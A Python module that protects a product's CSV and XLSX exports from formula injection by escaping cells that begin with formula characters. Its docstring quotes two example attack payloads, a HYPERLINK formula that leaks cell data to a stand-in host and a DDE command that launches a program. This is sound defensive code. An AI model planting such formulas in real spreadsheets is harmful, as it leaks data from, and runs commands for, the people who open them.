"""Cells for the CSV and XLSX files the product writes (exports, reports).

Guards against formula injection (CSV injection): a spreadsheet treats a cell
that starts with `=`, `+`, `-` or `@` as a formula, so a customer named
`=HYPERLINK("http://evil.example/?leak="&B2,"Click")` or `=cmd|' /C calc'!A0`
would run when a colleague opens the export. Following OWASP's guidance, every
text cell that starts with such a character (also tab, carriage return, their
full-width forms that Excel may read alike in Chinese locales, or any of these
after leading white space) is written with a `'` in front, and in XLSX always as
a text cell, never as a formula. Numbers stay numbers: a negative figure is a
numeric cell in XLSX and a plain `-5` in CSV, and text that is just a number
(`+8613800138000`, `-5`) is left as it is, since it cannot carry a formula.

Every writer of CSV or XLSX goes through `to_csv` or `append_row` here.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

# A formula sign, perhaps after white space or control characters (which a
# spreadsheet may skip); or a leading tab or carriage return (OWASP's list).
FORMULA_START = re.compile(r"[\t\r]|[\s\x00-\x1f\x7f]*[=+\-@＝＋－＠]")
# The control characters XML (so XLSX) cannot hold, as openpyxl refuses them.
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")


def inert(value: Any) -> Any:
    """The value as a cell that no spreadsheet evaluates: text that could start
    a formula gets a leading `'`; numbers, dates and None are returned as they are."""
    if not isinstance(value, str) or not value or NUMBER.fullmatch(value):
        return value
    return "'" + value if FORMULA_START.match(value) else value


def to_csv(columns: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """A CSV file in UTF-8 with a BOM (Excel then reads it as UTF-8)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([inert(v) for v in columns])
    writer.writerows([inert(v) for v in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")


def append_row(sheet: Worksheet, values: Sequence[Any]) -> None:
    """Append a row; text is always a text cell (data type 's'), never a formula."""
    # Characters XML cannot hold are dropped rather than fail the whole file.
    sheet.append([inert(XML_ILLEGAL.sub("", v) if isinstance(v, str) else v) for v in values])
    row = sheet.max_row
    for cell in next(sheet.iter_rows(min_row=row, max_row=row, max_col=max(len(values), 1))):
        if isinstance(cell.value, str):
            cell.data_type = "s"
